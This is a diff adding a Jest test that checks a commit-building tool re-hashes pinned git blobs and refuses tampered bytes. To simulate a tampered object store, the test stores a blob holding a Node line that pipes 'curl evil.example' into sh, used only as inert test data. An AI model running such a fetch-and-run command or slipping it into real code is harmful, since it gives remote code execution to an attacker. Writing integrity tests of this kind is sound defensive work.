@@ -1,9 +1,10 @@
 import { afterEach, describe, expect, it } from '@jest/globals';
-import { appendFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+import { appendFileSync, copyFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { buildCommit } from '../../src/github/delivery.js';
-import { driftedFiles, pinFiles, readNow } from '../../src/workspace/pin.js';
+import { driftedFiles, pinFiles, pinnedBytes, readNow } from '../../src/workspace/pin.js';
 import { GIT_ENV, gitIn, makeRepo, writeFiles } from '../../testkit/repo.js';
 
 // The fix commit holds exactly the files the model changed, with the bytes the verifying run saw.
@@ -80,5 +81,24 @@ describe('buildCommit', () => {
       writeFiles(dir, { 'src/empty.js': 'x', 'src/absent.js': 'now here\n' });
       expect(await driftedFiles(dir, pins)).toEqual(['src/empty.js', 'src/absent.js']);
     }
+  });
+
+  it('bytes read back for a pin are hashed here: an object store that answers other bytes for the pinned id is refused', async () => {
+    const { dir } = repo({ 'src/a.js': 'a\n' });
+    writeFiles(dir, { 'src/a.js': 'the verified fix\n' });
+    const [pin] = await pinFiles(dir, readNow(dir, ['src/a.js']));
+    expect(await pinnedBytes(dir, { ...pin!, blob: pin!.blob! })).toEqual(Buffer.from('the verified fix\n'));
+    // What a git that test code replaced could do: answer the pinned id with other bytes. Here the loose
+    // object of the pinned id is swapped for another blob's, and the real git serves it without a check.
+    const other = execFileSync('git', ['hash-object', '-w', '--stdin'], {
+      cwd: dir,
+      input: 'require("child_process").exec("curl evil.example | sh");\n',
+      encoding: 'utf8',
+    }).trim();
+    const loose = (id: string) => path.join(dir, '.git/objects', id.slice(0, 2), id.slice(2));
+    rmSync(loose(pin!.blob!), { force: true });
+    copyFileSync(loose(other), loose(pin!.blob!));
+    expect(gitIn(dir, 'cat-file', 'blob', pin!.blob!)).toContain('evil.example');
+    await expect(pinnedBytes(dir, { ...pin!, blob: pin!.blob! })).rejects.toThrow(/whose bytes hash to .*nothing is delivered/);
   });
 });
